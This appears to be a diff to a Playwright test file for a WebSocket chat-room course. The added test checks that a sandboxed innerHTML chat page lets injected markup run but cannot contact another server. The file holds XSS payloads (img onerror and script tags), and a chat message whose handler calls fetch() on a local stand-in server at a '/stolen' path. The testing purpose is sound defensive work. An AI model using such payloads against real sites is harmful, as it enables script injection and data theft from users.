@@ -9,7 +9,7 @@ from playwright.async_api import expect
 from ws_course import start
 from ws_course.chat_client import ChatClient
 
-ARTICLE = Path(__file__).parent / "article"
+ARTICLE = Path(__file__).parent.parent / "static" / "article"
 
 #: Markup that runs script if a page puts it into innerHTML; it records that it ran.
 XSS = '<img src=x onerror="window.pwned = \'img\'"><script>window.pwned = "script"</script>'
@@ -120,3 +120,48 @@ async def test_the_articles_own_chat_pages_from_disk_work_with_our_servers(async
             if demo == "json_chat":
                 await expect(page.locator("body > div").first).to_have_css("color", "rgb(0, 0, 255)")
             await page.close()
+
+
+async def test_the_articles_page_runs_the_payload_in_a_sandbox_that_reaches_nothing_else(async_browser):
+    """/article.html: the article's innerHTML page, sandboxed: markup runs, but can reach only its server."""
+    import http.server
+    import threading
+
+    visits = []
+
+    class Elsewhere(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            visits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    elsewhere = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
+    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
+    try:
+        for demo, article_name in [("chat", "demo3-chat.html"), ("json_chat", "demo4-json-chat.html")]:
+            with start(demo) as server:
+                page = await async_browser.new_page()
+                await page.goto(server.page_url + "article.html")
+                assert await page.locator("h1").text_content() == "Chat Room"
+                member = ChatClient(server.ws_url, json=demo == "json_chat")
+                await member.opened()
+                # The article's page is in the room once it hears the newcomer after it.
+                await expect(page.locator("body > div")).to_have_text(["user1 comes in", "user2 comes in"])
+                steal = f"fetch('http://127.0.0.1:{elsewhere.server_port}/stolen')"
+                member.send(f"<img src=x onerror=\"document.querySelector('h1').textContent='ran'; {steal}\">")
+                await expect(page.locator("h1")).to_have_text("ran")  # the markup ran...
+                await page.wait_for_timeout(300)
+                assert visits == []  # ...and could not reach another server
+                # The page itself is the article's, with only its address filled in.
+                served = await (await page.request.get(server.page_url + "article.html")).text()
+                original = (ARTICLE / article_name).read_text()
+                assert served == original.replace('"ws://xxx.xxx.xxx.xxx:8001/"', 'new URL(".", location.href).href.replace(/^http/, "ws")')
+                member.close()
+                await member.closed()
+                await page.close()
+    finally:
+        elsewhere.shutdown()
+        elsewhere.server_close()
